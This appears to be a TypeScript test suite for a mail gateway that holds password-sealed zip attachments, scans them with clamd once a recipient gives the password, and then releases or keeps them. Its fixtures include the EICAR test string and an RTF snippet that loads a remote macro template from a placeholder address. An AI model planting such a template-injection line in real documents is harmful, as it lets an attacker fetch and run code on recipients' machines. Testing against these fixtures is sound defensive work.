/** A sealed file waits until somebody gives its password: opened, scanned, and let go or kept with what is in it. */
import assert from "node:assert/strict"
import { test } from "node:test"
import { EICAR, startClamd } from "../support/clamd.ts"
import { sendMail } from "../support/client.ts"
import { startGateway } from "../support/gateway.ts"
import { mail } from "../support/mail.ts"
import { noticeTo, post } from "./people.ts"
import { FILE_PASSWORD, NO_ZIP, sealed } from "../support/sealed.ts"
import { openSink } from "../support/sink.ts"

/** Loads a template from elsewhere when it is opened. */
const TEMPLATE = "{\\rtf1\\ansi{\\*\\template http://192.0.2.1/a.dotm}Dự toán}"

const HIM = "a@tuyenquang.gov.vn"

test("whom it is for opens it by the link in his notice, and by nothing else", { skip: NO_ZIP }, async (t) => {
  const clamd = await startClamd()
  if (clamd === null) return t.skip("clamd is not installed")
  t.after(() => clamd.stop())
  await using sink = await openSink()
  const routes = [{ domains: ["*"], to: sink.url, tls: "off" }]
  await using gateway = await startGateway({ settings: { deliver: { routes }, scan: { clamd: clamd.unix } } })
  const send = async (name: string, text: string, to: readonly string[] = [HIM]): Promise<string> => {
    const message = mail({ subject: name, attachments: [{ name: `${name}.zip`, bytes: await sealed(text) }] })
    const { reply } = await sendMail(gateway.inbound, { from: "x@example.org", to: [...to], message })
    const code = /^250 2\.0\.0 \[(\w+)\]/.exec(reply)?.[1] ?? reply
    await gateway.until("people are told", (log) =>
      to.every((one) =>
        log.some((line) => line.msg === "noticed" && line["recipient"] === one && line.transaction === code),
      ),
    )
    return code
  }
  const linkOf = async (code: string, person = HIM): Promise<string> =>
    /http\S+\/p\/[\w.-]+/.exec(
      await noticeTo(sink, person, `[Cần mật khẩu] Thư gửi tới Ông/Bà có tệp đặt mật khẩu – ${code}`),
    )?.[0] ?? ""

  const other = "b@tuyenquang.gov.vn"
  const clean = await send("du-toan", "Dự toán năm 2027\n", [HIM, other])
  const link = await linkOf(clean)
  assert.match(await noticeTo(sink, HIM, "[Cần mật khẩu]"), /Tệp: “du-toan\.zip”/)

  // Programs that look behind every link change nothing.
  for (let opened = 0; opened < 3; opened++) assert.equal((await fetch(link)).status, 200)
  const page = await (await fetch(link)).text()
  assert.match(page, /Tiêu đề \/ subject: du-toan</)
  assert.doesNotMatch(page, /<script/)
  assert.equal(gateway.events("released").length, 0)

  const altered = link.replace(
    /\.([\w-]{28})$/,
    (_, digest: string) => `.${digest.startsWith("z") ? "y" : "z"}${digest.slice(1)}`,
  )
  assert.equal(await post(altered, { password: FILE_PASSWORD }), 410, "forged")
  assert.equal(await post(`${link.slice(0, -1)}${link.endsWith("A") ? "B" : "A"}`, { password: FILE_PASSWORD }), 410)
  assert.equal(await post(link, { password: "" }), 400)
  assert.equal(await post(link, { password: "sai" }), 403)
  assert.equal(gateway.events("released").length, 0)

  assert.equal(await post(link, { password: FILE_PASSWORD }), 200)
  await gateway.until("his copy arrives", (log) =>
    log.some((line) => line.msg === "delivered" && line.transaction === clean && line["recipient"] === HIM),
  )
  await gateway.waitFor("released")
  assert.match((await gateway.command("queue", "show", clean)).stdout, new RegExp(`released.*${HIM}`), "by him")
  assert.equal(await post(link, { password: FILE_PASSWORD }), 410, "used")
  const others = gateway.events("delivered").filter((line) => line.transaction === clean && line["recipient"] === other)
  assert.equal(others.length, 0, "whom he did not open it for")
  assert.notEqual(await linkOf(clean, other), link)

  const bad = await linkOf(await send("hoa-don", EICAR))
  assert.equal(await post(bad, { password: FILE_PASSWORD }), 200)
  assert.equal(gateway.events("released").length, 1, "what is in it stays")
  assert.equal(await post(bad, { password: FILE_PASSWORD }), 410, "and is no longer his to open")

  const many = await linkOf(await send("bao-cao", "Báo cáo\n"))
  const answers = []
  for (let tries = 0; tries < 6; tries++) answers.push(await post(many, { password: `sai ${tries}` }))
  assert.deepEqual(answers, [403, 403, 403, 403, 403, 429], "guessing costs time")
})

test("the right password lets go what is clean, and keeps what is not", {
  skip: NO_ZIP,
}, async (t) => {
  const clamd = await startClamd()
  if (clamd === null) return t.skip("clamd is not installed")
  t.after(() => clamd.stop())
  await using sink = await openSink()
  const routes = [{ domains: ["*"], to: sink.url, tls: "off" }]
  await using gateway = await startGateway({ settings: { deliver: { routes }, scan: { clamd: clamd.unix } } })
  const send = async (text: string, name?: string): Promise<string> => {
    const message = mail({ body: "Xin gửi tệp", attachments: [{ name: "a.zip", bytes: await sealed(text, name) }] })
    const { reply } = await sendMail(gateway.inbound, { from: "x@example.org", to: ["a@tuyenquang.gov.vn"], message })
    return /^250 2\.0\.0 \[(\w+)\]/.exec(reply)?.[1] ?? reply
  }
  const [clean, bad] = [await send("Dự toán năm 2027\n"), await send(EICAR)]
  assert.equal((await gateway.command("held", "release", clean, "--password", "sai")).code, 1, "a wrong one")
  assert.equal(gateway.events("released").length, 0)

  const kept = await gateway.command("held", "release", bad, "--password", FILE_PASSWORD)
  assert.equal(kept.code, 1)
  assert.match(kept.stderr, /malware Eicar-Test-Signature/)
  const template = await send(TEMPLATE, "a.rtf")
  const fetching = await gateway.command("held", "release", template, "--password", FILE_PASSWORD)
  assert.equal(fetching.code, 1, "what the policy holds unsealed is held here too")
  assert.match(fetching.stderr, /external-reference/)
  const again = await gateway.command("held", "release", bad, "--reason", "thử")
  assert.match(again.stdout, /another person must too/, "what is known to be malware takes two of security")

  const done = await gateway.command(
    "held",
    "release",
    clean,
    "--password",
    FILE_PASSWORD,
    "--reason",
    "người nhận cho biết",
  )
  assert.equal(done.code, 0, done.stderr)
  await gateway.until("it arrives", (log) =>
    log.some(({ msg, transaction }) => msg === "delivered" && transaction === clean),
  )
  const arrived = (await sink.waitFor(1)).some(({ bytes }) => bytes.includes(`id ${clean};`))
  assert.ok(arrived)
})
